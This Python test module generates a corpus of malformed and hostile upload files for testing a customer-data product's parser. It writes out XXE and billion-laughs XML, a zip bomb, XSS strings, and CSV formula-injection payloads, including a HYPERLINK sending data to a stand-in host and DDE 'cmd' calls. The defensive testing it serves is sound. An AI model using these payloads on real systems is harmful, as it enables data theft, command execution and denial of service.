"""Write the hostile-input corpus: malformed, hostile and awkward customer files.

Every file is built here from a small, well-behaved customer table (three clear groups of 20), so
no binary is ever committed; ``expected.py`` says what the product must answer for each one. Run
``python -m tests.corpus.generate OUT_DIR`` to look at the files; the tests call :func:`write`.
"""

from __future__ import annotations

import codecs
import gzip
import io
import re
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import polars as pl

from tests.conftest import three_groups

N = 60  # customers in the base table (three groups of 20)
Build = Callable[[], bytes]


def base(n: int = N) -> pl.DataFrame:
    """The well-behaved table every file starts from (marketing layout, dd-mm-yyyy dates)."""
    return three_groups(n, seed=1)


def csv(frame: pl.DataFrame | None = None, **options: Any) -> bytes:
    return (base() if frame is None else frame).write_csv(**options).encode()


def cells(column: str, values: dict[int, str]) -> pl.DataFrame:
    """The base table with cells of ``column`` replaced or added (keys are 1-based data rows)."""
    frame = base()
    texts = frame.get_column(column).cast(pl.String).to_list() if column in frame.columns else []
    texts = texts or [None] * frame.height
    for row, value in values.items():
        texts[row - 1] = value
    return frame.with_columns(pl.Series(column, texts, dtype=pl.String))


def with_cells(column: str, values: dict[int, str]) -> bytes:
    """The base CSV with cells of ``column`` replaced (keys are 1-based data rows)."""
    return csv(cells(column, values))


def edit_line(index: int, edit: Callable[[str], str]) -> bytes:
    """The base CSV with file line ``index`` (0 = header) edited."""
    rows = csv().decode().splitlines()
    rows[index] = edit(rows[index])
    return ("\n".join(rows) + "\n").encode()


# --- workbooks --------------------------------------------------------------------------------


def xlsx(frame: pl.DataFrame | None = None) -> bytes:
    buffer = io.BytesIO()
    (base() if frame is None else frame).write_excel(buffer)
    return buffer.getvalue()


def rezip(
    data: bytes, edit: Callable[[str, bytes], bytes | None], extra: dict[str, bytes]
) -> bytes:
    """Copy a zip, passing each member through ``edit`` (None drops it), then add ``extra``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            content = edit(info.filename, src.read(info))
            if content is not None:
                dst.writestr(info.filename, content, compress_type=zipfile.ZIP_DEFLATED)
        for name, content in extra.items():
            dst.writestr(name, content, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def xml_prolog(part: str, prolog: bytes) -> Build:
    """A valid workbook whose ``part`` carries ``prolog`` between its XML declaration and root."""

    def build() -> bytes:
        def edit(name: str, content: bytes) -> bytes:
            if name != part:
                return content
            decl = re.match(rb"<\?xml[^>]*\?>\s*", content)
            head = decl.group(0) if decl else b""
            return head + prolog + content[len(head) :]

        return rezip(xlsx(), edit, {})

    return build


DOCTYPE = b"<!DOCTYPE worksheet [<!ELEMENT worksheet ANY>]>\n"
XXE = b'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>\n"
)


def zip_bomb() -> bytes:
    """A real workbook plus a sheet that inflates 1,000:1 (30 KB on disk, 30 MB inflated)."""
    zeros = b"<!-- " + b"0" * (30 * 1024**2) + b" -->"
    return rezip(xlsx(), lambda n, c: c, {"xl/worksheets/sheet2.xml": zeros})


def macros() -> bytes:
    """A workbook with a VBA project, as Excel saves an .xlsm (the macro is never run)."""
    return rezip(xlsx(), lambda n, c: c, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(512)})


OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def ole2(stream_name: str) -> Build:
    """An OLE2 compound file header plus a directory entry name (legacy .xls, encrypted xlsx)."""

    def build() -> bytes:
        header = OLE2 + bytes(16) + struct.pack("<HH", 0x3E, 0x03) + b"\xfe\xff" + bytes(486)
        entry = stream_name.encode("utf-16-le").ljust(64, b"\x00")
        return header + entry + bytes(1024)

    return build


# --- parquet ----------------------------------------------------------------------------------


def parquet(frame: pl.DataFrame | None = None) -> bytes:
    buffer = io.BytesIO()
    (base() if frame is None else frame).write_parquet(buffer)
    return buffer.getvalue()


def corrupt_footer() -> bytes:
    """Both magics intact, the footer length and metadata overwritten with garbage."""
    data = bytearray(parquet())
    data[-8:-4] = struct.pack("<I", 7)  # footer length pointing into the column data
    data[-40:-8] = b"\xff" * 32
    return bytes(data)


# --- text -------------------------------------------------------------------------------------


def latin1() -> bytes:
    names = ["José", "Zoë", "Ångström"] * (N // 3)
    return csv(base().with_columns(pl.Series("Name", names))).decode().encode("latin-1")


def ragged() -> bytes:
    return edit_line(5, lambda line: line + ",9,9")


def mixed_dates() -> bytes:
    """Mostly dd-mm-yyyy, three rows ISO and one with slashes: all still dates."""
    return with_cells("Dt_Customer", {3: "2013-05-17", 9: "2013-02-01", 14: "2012-11-30"})


def future_dates() -> bytes:
    return with_cells("Dt_Customer", {5: "01-01-2099", 6: "31-12-2087"})


def formulas() -> bytes:
    """Formula-looking customer ids (and a comment column) that a spreadsheet would execute."""
    payloads = {
        1: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        2: "+1+cmd|' /C calc'!A0",
        3: "-2+3",
        4: "@SUM(A1:A9)",
        5: "\t=1+1",
        6: "=cmd|' /C notepad'!A1",
    }
    frame = base().with_columns(pl.col("ID").cast(pl.String))
    ids = frame.get_column("ID").to_list()
    for row, value in payloads.items():
        ids[row - 1] = value
    frame = frame.with_columns(pl.Series("ID", ids), Comment=pl.lit("=1+2"))
    return csv(frame)


def html() -> bytes:
    frame = base().with_columns(pl.col("ID").cast(pl.String))
    ids = frame.get_column("ID").to_list()
    ids[0] = "<script>alert('id')</script>"
    ids[1] = '"><img src=x onerror=alert(1)>'
    frame = frame.with_columns(
        pl.Series("ID", ids), Notes=pl.lit("<b>bold</b><script>alert(1)</script>")
    )
    return csv(frame.rename({"Notes": "<svg onload=alert(1)>"}))


def emoji_rtl() -> bytes:
    frame = base().with_columns(
        pl.lit("🙂 happy").alias("😀 mood"),
        pl.lit("עברית").alias("שם הלקוח"),
        pl.lit("نص").alias("\u202eevil\u202c"),
    )
    return csv(frame)


def wide() -> bytes:
    header = ",".join(f"c{i}" for i in range(10_000))
    row = ",".join("1" for _ in range(10_000))
    return f"{header}\n{row}\n{row}\n".encode()


def huge_cell() -> bytes:
    """One 10 MB cell in an extra text column (the default cell limit is 1,000,000 chars)."""
    notes = dict.fromkeys(range(1, N + 1), "ok")
    notes[2] = "x" * (10 * 1024**2)
    return with_cells("Notes", notes)


def over_limit() -> bytes:
    """A valid file of about 260 KB (the corpus test sets the upload limit to 128 KB)."""
    return csv(three_groups(3000, seed=1))


def png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4


def gzipped() -> bytes:
    return gzip.compress(csv(), mtime=0)


FILES: dict[str, Build] = {
    "empty.csv": lambda: b"",
    "blank.csv": lambda: b"  \n\n \n",
    "header_only.csv": lambda: csv().splitlines()[0] + b"\n",
    "bom.csv": lambda: codecs.BOM_UTF8 + csv(),
    "latin1.csv": latin1,
    "utf16_bom.csv": lambda: csv().decode().encode("utf-16"),
    "utf16_no_bom.csv": lambda: csv().decode().encode("utf-16-le"),
    "semicolon.csv": lambda: csv(separator=";"),
    "tab.csv": lambda: csv(separator="\t"),
    "crlf.csv": lambda: csv().replace(b"\n", b"\r\n"),
    "blank_lines.csv": lambda: csv().replace(b"\n", b"\n\n", 3),
    "ragged.csv": ragged,
    "unbalanced_quote.csv": lambda: edit_line(4, lambda line: '"' + line),
    "nul.csv": lambda: edit_line(2, lambda line: line.replace(",", ",\x00", 1)),
    "duplicate_columns.csv": lambda: edit_line(
        0, lambda h: h.replace("MntMeatProducts", "MntWines")
    ),
    "unnamed_column.csv": lambda: csv(base().with_columns(pl.lit("x").alias(" "))),
    "missing_id.csv": lambda: csv(base().rename({"ID": "Reference"})),
    "no_usable_ids.csv": lambda: with_cells("ID", dict.fromkeys(range(1, N + 1), "")),
    "duplicate_ids.csv": lambda: with_cells("ID", {2: "1", 3: "1"}),
    "negative_spend.csv": lambda: with_cells("MntWines", {4: "-250", 7: "-1"}),
    "null_tokens.csv": lambda: with_cells("Income", {2: "NaN", 3: "NULL", 4: "N/A", 5: ""}),
    "inf.csv": lambda: with_cells("Income", {2: "inf", 3: "1e309", 4: "-inf"}),
    "huge_1e308.csv": lambda: with_cells("MntWines", {2: "1e308", 3: "1e308"}),
    "future_dates.csv": future_dates,
    "mixed_dates.csv": mixed_dates,
    "not_dates.csv": lambda: with_cells("Dt_Customer", dict.fromkeys(range(1, N + 1), "soon")),
    "text_in_numeric.csv": lambda: with_cells("Income", {4: "abc", 11: "lots"}),
    "currency.csv": lambda: with_cells("Income", {1: "$31,200.50", 2: "€ 30 100", 3: "£29,999"}),
    "decimal_comma.csv": lambda: csv(cells("Income", {1: "31200,5", 2: "30100,25"}), separator=";"),
    "one_row.csv": lambda: csv(base().head(1)),
    "fewer_rows_than_k.csv": lambda: csv(base().head(8)),
    "constant_column.csv": lambda: with_cells(
        "NumDealsPurchases", dict.fromkeys(range(1, N + 1), "5")
    ),
    "all_missing_column.csv": lambda: with_cells("Income", dict.fromkeys(range(1, N + 1), "")),
    "formulas.csv": formulas,
    "html.csv": html,
    "emoji_rtl.csv": emoji_rtl,
    "valid.xlsx": xlsx,
    "zip_bomb.xlsx": zip_bomb,
    "doctype.xlsx": xml_prolog("xl/worksheets/sheet1.xml", DOCTYPE),
    "external_entity.xlsx": xml_prolog("xl/workbook.xml", XXE),
    "billion_laughs.xlsx": xml_prolog("xl/sharedStrings.xml", LAUGHS),
    "doctype_after_comment.xlsx": xml_prolog(
        "xl/workbook.xml", b"<!--" + b" " * 8192 + b"-->" + XXE
    ),
    "macros.xlsm": macros,
    "legacy.xls": ole2("Workbook"),
    "encrypted.xlsx": ole2("EncryptedPackage"),
    "zip_not_workbook.xlsx": lambda: rezip(xlsx(), lambda n, c: None, {"notes.txt": b"hello"}),
    "wide_10000_columns.csv": wide,
    "cell_10mb.csv": huge_cell,
    "over_limit.csv": over_limit,
    "xlsx_named.csv": xlsx,
    "png_named.csv": png,
    "pdf_named.csv": lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
    "customers.csv.gz": gzipped,
    "gzip_named.csv": gzipped,
    "double_gzip.csv.gz": lambda: gzip.compress(gzipped(), mtime=0),
    "damaged.csv.gz": lambda: gzipped()[:100],
    "valid.parquet": lambda: parquet(),
    "corrupt_footer.parquet": corrupt_footer,
    "truncated.parquet": lambda: parquet()[:-200],
    # Hostile upload names: the content is a valid file, the multipart filename is the attack.
    "name_dotdot.csv": lambda: csv(),
    "name_backslash.csv": lambda: csv(),
    "name_encoded.csv": lambda: csv(),
    "name_nul.csv": lambda: csv(),
    "name_long.csv": lambda: csv(),
}


def write(directory: Path) -> list[Path]:
    """Write every corpus file into ``directory``; returns the paths in table order."""
    directory.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, build in FILES.items():
        path = directory / name
        path.write_bytes(build())
        paths.append(path)
    return paths


if __name__ == "__main__":  # pragma: no cover - a convenience for people
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus-out")
    for written in write(target):
        print(f"{written.stat().st_size:>12,}  {written}")
